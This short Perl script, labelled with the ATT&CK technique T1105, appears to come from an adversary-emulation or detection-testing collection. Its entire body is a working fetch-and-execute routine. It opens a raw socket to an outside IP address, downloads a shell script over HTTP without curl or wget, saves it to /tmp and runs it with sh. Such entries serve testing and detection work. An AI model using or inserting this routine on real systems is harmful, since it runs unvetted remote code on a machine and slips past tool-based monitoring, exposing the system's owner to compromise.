#!/usr/bin/env perl
# title: Perl downloads a script without any tool, and runs it
# technique: T1105
# needs: perl

use IO::Socket::INET;
my $s = IO::Socket::INET->new("192.88.99.7:80"); print $s "GET /x.sh HTTP/1.0\r\n\r\n";
local $/; my ($head, $body) = split /\r\n\r\n/, <$s>, 2;
open(my $out, ">", "/tmp/y.sh"); print $out $body; close $out;
system("sh", "/tmp/y.sh");
